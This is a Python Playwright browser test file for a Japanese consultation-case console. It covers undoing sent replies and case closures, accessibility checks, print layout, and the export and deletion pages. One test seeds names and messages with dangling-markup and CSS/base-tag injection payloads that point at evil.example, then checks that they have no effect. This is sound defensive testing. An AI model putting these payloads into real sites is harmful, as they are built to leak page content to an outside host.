"""What leaves the house, what goes, and second thoughts, in a real browser: seen, heard, by keyboard, and on paper."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import Connection

from storage import cases, deletions, exports, holds, sweeps
from storage.cases import Mode
from storage.deletions import CASE, Order
from storage.exports import Counted, New, Wanted
from storage.keeping import Kind
from storage.staff import Role
from tests.browser.desk import Desk
from tests.browser.looks import Look, complaints, wrong_in
from tests.web.console.office import Office

pytestmark = pytest.mark.browser
LOOKS: tuple[Look, ...] = ((390, {"color_scheme": "light"}), (1280, {"color_scheme": "dark"}))
DANGLING = [
    "<img src='//evil.example/?",
    "\"><base href='//evil.example/'><a href='",
    "</style><style>@import url(//evil.example/x.css);*{background:url(//evil.example)}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example><textarea>",
    "'-->]]></title><button formaction=//evil.example name=",
]


@pytest.fixture
def slow(desk: Desk) -> Desk:
    """A desk with ten seconds for second thoughts."""
    desk.served.stop()
    desk.office.under(undo_seconds=10)
    desk.served.start()
    return desk


def _held(office: Office, member: int) -> int:
    case_id = office.case(mode=Mode.OPEN)
    office.says(case_id, "会議室を使いたいです")
    office.write(lambda conn: cases.claim(conn, case_id, member, office.clock()))
    return case_id


def test_what_is_sent_can_be_taken_back_by_keyboard_and_is_announced_with_the_seconds_left(slow: Desk) -> None:
    page = slow.window(slow.office.member("aoki", "青木"))
    page.goto(f"/console/cases/{_held(slow.office, 1)}")
    page.locator("#reply-text").fill("あした10時はいかがですか")
    page.keyboard.press("Control+Enter")
    expect(page.locator("#say")).to_contain_text("「取り消す」を押してください")
    expect(page.locator("#say")).to_have_attribute("role", "status")
    expect(page.locator("#reply-text")).to_be_focused()
    back = page.get_by_role("button", name="取り消す")
    expect(back.locator(".count")).to_have_text(re.compile(r"^([1-9]|10)$"))
    assert complaints(page) == []
    for _ in range(6):
        if back.evaluate("(one) => one === document.activeElement"):
            break
        page.keyboard.press("Shift+Tab")
    expect(back).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#reply-text")).to_have_value("あした10時はいかがですか")
    assert slow.office.told(1) == []


def test_the_end_of_a_case_can_be_taken_back(slow: Desk) -> None:
    page = slow.window(slow.office.member("aoki", "青木"))
    page.goto(f"/console/cases/{_held(slow.office, 1)}")
    page.locator(".sure > summary", has_text="終了").click()
    page.locator("#deed-close button").click()
    expect(page.locator(".held-back")).to_contain_text("まだ終了していません")
    page.get_by_role("button", name="取り消す").click()
    expect(page.locator("#say")).to_contain_text("終了を取り消しました")
    expect(page.locator(".held-back")).to_have_count(0)


def _much(office: Office, chief: int, aoki: int) -> int:
    """Files in every state, orders, a hold, nights; a closed case."""
    now, vault = office.clock(), office.store.vault
    closed = office.case("closed", mode=Mode.OPEN)
    office.write(lambda conn: cases.close(conn, closed, cases.By(cases.Who.SYSTEM), now))

    def write(conn: Connection) -> None:
        for member, second in ((chief, False), (aoki, True)):
            exports.ask(conn, vault, New(member, Wanted(), "月の報告の表を作ります", second), Counted(120, 98, 9), now)
        for wait in (0, 10):
            deletions.add(conn, vault, (chief, Order(CASE, closed), 4), now + timedelta(seconds=wait), now)
        head = cases.head_of(conn, closed)
        assert head is not None
        holds.put(conn, vault, (chief, "話し合い中のため"), head, now)
        sweeps.begin(conn, "2026-11-22", Kind.OPEN, now - timedelta(days=365), now)

    office.write(write)
    return closed


def test_A01_A03_every_page_of_what_leaves_and_goes(desk: Desk) -> None:
    office = desk.office
    chief, aoki = office.member("chief", "千葉", Role.MANAGER), office.member("aoki", "青木")
    mine = _held(office, chief)
    closed = _much(office, chief, aoki)
    page = desk.window(chief)
    found: list[str] = []
    for path in ("exports", "deletions", "retention", f"cases/{closed}", f"cases/{mine}/print"):
        page.goto("/console/" + path)
        found += wrong_in(page, path, LOOKS)
    page.goto("/console/exports")
    page.get_by_label("理由").fill("月の報告の表を作ります")
    page.get_by_role("button", name="件数をたしかめる").click()
    expect(page.locator("#count-title")).to_contain_text("相談 2件、住民 2人")
    found += wrong_in(page, "counted", LOOKS)
    page.goto("/console/deletions")
    page.get_by_label("受付番号").fill(office.head(mine).ref)
    page.get_by_role("button", name="何が消えるかを見る").click()
    expect(page.locator(".notice").first).to_contain_text("先に終了してください")
    found += wrong_in(page, "planned", LOOKS)
    assert found == []


def test_on_paper_a_case_has_no_way_to_anywhere_and_says_who_printed_it(desk: Desk) -> None:
    page = desk.window(desk.office.member("aoki", "青木 さゆり"))
    page.goto(f"/console/cases/{_held(desk.office, 1)}")
    page.get_by_role("link", name="印刷用の画面").click()
    expect(page.locator(".who")).to_contain_text("印刷した人: 青木 さゆり")
    page.emulate_media(media="print")
    assert page.locator("a:visible, button:visible, nav, form, input").count() == 0
    expect(page.locator(".mark")).to_contain_text("青木 さゆり")
    assert page.locator(".mark").evaluate("(one) => getComputedStyle(one).position") == "fixed"  # so on every sheet
    assert page.locator(".apart").evaluate("(one) => getComputedStyle(one).breakBefore") == "page"
    assert "会議室を使いたいです" in page.inner_text("main")


def test_C05_markup_left_open_and_style_in_a_name_or_a_text_have_no_effect_on_any_page(desk: Desk) -> None:
    """`desk` itself fails when a page asks anybody else for anything, or our policy had to stop it."""
    office = desk.office
    chief = office.member("chief", DANGLING[1], Role.MANAGER)
    for number, text in enumerate(DANGLING):
        office.member(f"m{number}", text)
    case_id = _held(office, chief)
    office.case("other", mode=Mode.OPEN, topics=[DANGLING[0]], rows=[["story", "相談", DANGLING[2]]])
    for text in DANGLING:
        office.says(case_id, text)
    now, vault = office.clock(), office.store.vault
    new = New(chief, Wanted(), DANGLING[2], second=False)
    office.write(lambda conn: exports.ask(conn, vault, new, Counted(1, 1, 1), now))
    page = desk.window(chief)
    for path in ("", f"/cases/{case_id}", f"/cases/{case_id}/print", "/people", "/record", "/exports", "/deletions"):
        page.goto("/console" + path)
        _plain(page)
    page.goto("/me")
    _plain(page)
    assert page.locator("p", has_text=DANGLING[1]).count() == 1


def _plain(page: Page) -> None:
    """Nothing but our own sheets and pictures, and a page that is as it was meant."""
    ours = "link[rel=stylesheet]:not([href^='/static/']), img:not([src^='/static/']), base, style, meta[http-equiv]"
    assert page.locator(ours).count() == 0
    assert page.locator("main").count() == 1
    assert page.locator("[formaction*=evil], a[href*=evil]").count() == 0
